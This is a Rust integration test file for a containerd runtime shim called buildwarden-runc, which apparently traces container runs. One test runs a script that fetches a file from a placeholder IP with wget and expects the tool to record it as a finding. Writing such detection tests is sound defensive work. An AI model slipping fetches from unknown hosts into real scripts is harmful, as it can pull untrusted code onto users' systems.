//! containerd with the shim as the runtime of one container.

use crate::harness::{Containerd, Dir, rootfs, run};
use std::{fs, process::Command};

#[test]
fn root_containerd_runs_the_shim() {
    let dir = Dir::new();
    let containerd = Containerd::new(&dir);
    let rootfs = rootfs(&dir);
    let shim = dir.shim("buildwarden-runc");
    let script = "echo out; echo err >&2; wget http://198.51.100.34/x; exit 5";
    let ctr = |options: &[&str], id: &str| {
        containerd.run(&[options, &["--rm"]].concat(), &rootfs, id, &["-c", script])
    };
    let traced = ctr(&["--runc-binary", &shim.display().to_string()], "traced");
    let plain = ctr(&[], "plain");
    assert_eq!(
        (traced.code, traced.stdout(), traced.stderr()),
        (plain.code, plain.stdout(), plain.stderr())
    );
    assert_eq!(plain.code, 5, "{plain}");
    let report = dir.report("traced");
    assert_eq!(report.findings.len(), 1);
    assert_eq!(report.container.engine.as_deref(), Some("containerd"));
    assert_eq!(report.completeness.reasons, [""; 0]);
    assert_eq!(dir.runs(), ["traced"]);
    dir.expect_nothing_live();
}

#[test]
fn root_containerd_takes_the_documented_configuration() {
    let hooks = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("hooks/containerd");
    let mut command = Command::new("containerd");
    command.arg("--config").arg(hooks.join("config-v2.toml")).args(["config", "dump"]);
    let dump = run(&mut command).expect_code(0).stdout();
    assert!(dump.contains("default_runtime_name = \"buildwarden\""), "{dump}");
    assert!(dump.contains("BinaryName = \"/usr/bin/buildwarden-runc\""), "{dump}");
    // Debian 12 has no containerd that reads the other.
    let new = fs::read_to_string(hooks.join("config-v3.toml")).unwrap();
    let new: toml::Table = new.parse().unwrap();
    let runtime = &new["plugins"]["io.containerd.cri.v1.runtime"]["containerd"]["runtimes"];
    let binary = runtime["buildwarden"]["options"]["BinaryName"].as_str();
    assert_eq!(binary, Some("/usr/bin/buildwarden-runc"));
}
